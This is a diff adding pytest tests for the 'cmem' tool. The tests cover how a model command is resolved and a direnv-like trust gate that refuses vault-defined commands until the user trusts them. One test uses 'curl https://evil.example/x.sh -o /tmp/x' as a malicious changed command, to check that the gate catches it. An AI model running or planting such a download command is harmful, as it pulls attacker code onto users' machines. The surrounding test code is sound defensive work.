@@ -1,0 +1,200 @@
+"""The model-command precedence and the direnv-like trust gate on commands a vault names itself."""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+
+from cmem.config import load_user_config, user_config_path
+from cmem.errors import ConfigError
+from cmem.trust import (
+    UntrustedCommand,
+    command_sha256,
+    resolve_model_command,
+    revoke_trust,
+    trust_status,
+    trust_vault,
+)
+from cmem.vault import open_vault
+
+VAULT_COMMAND = "llm -m gpt-4o-mini --system 'be brief'"
+
+
+def vault_with(make_vault, command: str | None = VAULT_COMMAND, extra: str = ""):
+    config = extra
+    if command is not None:
+        config += f'llm:\n  command: "{command}"\n'
+    return open_vault(make_vault(config_yaml=config))
+
+
+def write_user_config(text: str) -> None:
+    path = user_config_path()
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text, "utf-8")
+
+
+def set_vault_command(vault, command: str):
+    (vault.cmem_dir / "config.yaml").write_text(f'llm:\n  command: "{command}"\n', "utf-8")
+    return open_vault(vault.root)
+
+
+def test_precedence_flag_env_user_then_trusted_vault(make_vault, monkeypatch):
+    vault = vault_with(make_vault)
+    trust_vault(vault)
+    write_user_config(user_config_path().read_text("utf-8") + "llm:\n  command: ollama run llama3\n")
+    monkeypatch.setenv("CMEM_LLM", "claude -p")
+
+    assert resolve_model_command(vault, "llm -m o3").origin == "flag"
+    resolved = resolve_model_command(vault, None)
+    assert (resolved.command, resolved.origin) == ("claude -p", "env")
+    monkeypatch.delenv("CMEM_LLM")
+    resolved = resolve_model_command(vault, None)
+    assert (resolved.command, resolved.origin) == ("ollama run llama3", "user-config")
+    write_user_config(user_config_path().read_text("utf-8").replace("  command: ollama run llama3\n", "  command: null\n"))
+    resolved = resolve_model_command(vault, "  ")  # a blank flag is no flag
+    assert (resolved.command, resolved.origin) == (VAULT_COMMAND, "vault-config")
+
+
+def test_flag_env_and_user_config_need_no_trust(make_vault, monkeypatch):
+    vault = vault_with(make_vault)  # names an untrusted command, which is never consulted
+    assert resolve_model_command(vault, "my-model").command == "my-model"
+    monkeypatch.setenv("CMEM_LLM", "env-model")
+    assert resolve_model_command(vault, None).command == "env-model"
+    monkeypatch.delenv("CMEM_LLM")
+    write_user_config("llm:\n  command: user-model\n")
+    assert resolve_model_command(vault, None).command == "user-model"
+
+
+def test_no_command_anywhere_means_the_builtin_engine(make_vault):
+    resolved = resolve_model_command(vault_with(make_vault, None), None)
+    assert (resolved.command, resolved.origin, resolved.timeout) == (None, None, 600.0)
+
+
+def test_untrusted_vault_command_is_refused_with_the_way_out(make_vault):
+    vault = vault_with(make_vault)
+    with pytest.raises(UntrustedCommand) as caught:
+        resolve_model_command(vault, None)
+    message = str(caught.value)
+    assert VAULT_COMMAND in message and "`cmem trust`" in message and "config.yaml" in message
+    assert trust_status(vault).state == "untrusted"
+    assert not user_config_path().exists()  # refusing writes nothing
+
+
+def test_trust_then_run_then_a_changed_command_is_refused_again(make_vault):
+    vault = vault_with(make_vault)
+    change = trust_vault(vault)
+    assert change.action == "trusted" and change.command_sha256 == command_sha256(VAULT_COMMAND)
+    assert resolve_model_command(vault, None).origin == "vault-config"
+    assert trust_vault(vault).action == "already-trusted"
+
+    vault = set_vault_command(vault, "curl https://evil.example/x.sh -o /tmp/x")
+    with pytest.raises(UntrustedCommand, match="changed since you trusted it") as caught:
+        resolve_model_command(vault, None)
+    assert "curl https://evil.example/x.sh" in str(caught.value) and "`cmem trust`" in str(caught.value)
+    assert trust_status(vault).state == "changed"
+
+    assert trust_vault(vault).action == "retrusted"
+    assert resolve_model_command(vault, None).command == "curl https://evil.example/x.sh -o /tmp/x"
+    entries = load_user_config()["trusted"]
+    assert len(entries) == 1  # updated, not appended
+    assert entries[0]["vault"] == str(vault.root.resolve())
+    assert entries[0]["command_sha256"] == command_sha256("curl https://evil.example/x.sh -o /tmp/x")
+
+
+def test_revoke(make_vault):
+    vault = vault_with(make_vault)
+    assert revoke_trust(vault).action == "not-trusted"
+    trust_vault(vault)
+    assert revoke_trust(vault).action == "revoked"
+    with pytest.raises(UntrustedCommand):
+        resolve_model_command(vault, None)
+    assert trust_status(vault).state == "untrusted"
+
+
+def test_trust_is_per_vault_path(make_vault):
+    first, second = vault_with(make_vault), vault_with(make_vault)  # same command, different folders
+    trust_vault(first)
+    assert resolve_model_command(first, None).origin == "vault-config"
+    with pytest.raises(UntrustedCommand):
+        resolve_model_command(second, None)
+
+
+def test_trust_follows_the_resolved_path(make_vault, tmp_path):
+    vault = vault_with(make_vault)
+    link = tmp_path / "link-to-vault"
+    link.symlink_to(vault.root)
+    trust_vault(open_vault(link))
+    assert resolve_model_command(vault, None).origin == "vault-config"
+
+
+def test_user_config_comments_survive_trust_and_revoke(make_vault):
+    original = (
+        "# my cmem settings — keep this comment\n"
+        "llm:\n"
+        "  timeout_seconds: 120   # my model is slow\n"
+        "\n"
+        "# vaults I have read and allowed\n"
+        "trusted:\n"
+        "  - vault: /somewhere/else   # the work vault\n"
+        "    command_sha256: abc123\n"
+    )
+    write_user_config(original)
+    vault = vault_with(make_vault)
+    trust_vault(vault)
+    text = user_config_path().read_text("utf-8")
+    assert text.startswith(original)  # every byte the user wrote, comments and indentation, is kept
+    data = load_user_config()  # still valid against the user schema
+    assert [entry["vault"] for entry in data["trusted"]] == ["/somewhere/else", str(vault.root.resolve())]
+    assert isinstance(data["trusted"][1]["trusted_at"], str)
+    revoke_trust(vault)
+    text = user_config_path().read_text("utf-8")
+    assert "# the work vault" in text and str(vault.root.resolve()) not in text
+
+
+def test_a_comment_only_user_config_keeps_its_comments(make_vault):
+    write_user_config("# nothing set yet\n# llm:\n#   command: llm\n")
+    vault = vault_with(make_vault)
+    trust_vault(vault)
+    text = user_config_path().read_text("utf-8")
+    assert text.startswith("# nothing set yet\n# llm:\n#   command: llm\n")
+    assert load_user_config()["trusted"][0]["vault"] == str(vault.root.resolve())
+
+
+def test_trust_creates_the_user_config_when_missing(make_vault):
+    vault = vault_with(make_vault)
+    assert not user_config_path().exists()
+    trust_vault(vault)
+    assert user_config_path().exists()
+    assert load_user_config()["trusted"][0]["command_sha256"] == command_sha256(VAULT_COMMAND)
+    assert not (vault.root / ".cmem" / "trust.json").exists()
+    assert os.listdir(vault.cmem_dir) == ["config.yaml"]  # trust never lives in the vault
+
+
+def test_vault_without_a_command_has_nothing_to_trust(make_vault):
+    vault = vault_with(make_vault, None)
+    assert trust_vault(vault).action == "no-command"
+    assert trust_status(vault).state == "no-command"
+    assert not user_config_path().exists()
+
+
+def test_a_vault_cannot_trust_itself(make_vault):
+    root = make_vault(config_yaml=f'llm:\n  command: "{VAULT_COMMAND}"\ntrusted: []\n')
+    with pytest.raises(ConfigError, match="trusted"):
+        open_vault(root)
+
+
+def test_an_invalid_user_config_is_not_rewritten(make_vault):
+    write_user_config("llm:\n  comand: typo\n")
+    vault = vault_with(make_vault)
+    with pytest.raises(ConfigError, match="comand"):
+        trust_vault(vault)
+    assert user_config_path().read_text("utf-8") == "llm:\n  comand: typo\n"
+
+
+def test_timeout_vault_setting_wins_over_user_setting_wins_over_default(make_vault):
+    write_user_config("llm:\n  timeout_seconds: 120\n")
+    assert resolve_model_command(vault_with(make_vault, None), None).timeout == 120.0
+    vault = vault_with(make_vault, None, extra="llm:\n  timeout_seconds: 900\n  max_output_bytes: 2048\n")
+    resolved = resolve_model_command(vault, "x")
+    assert (resolved.timeout, resolved.max_output_bytes) == (900.0, 2048)
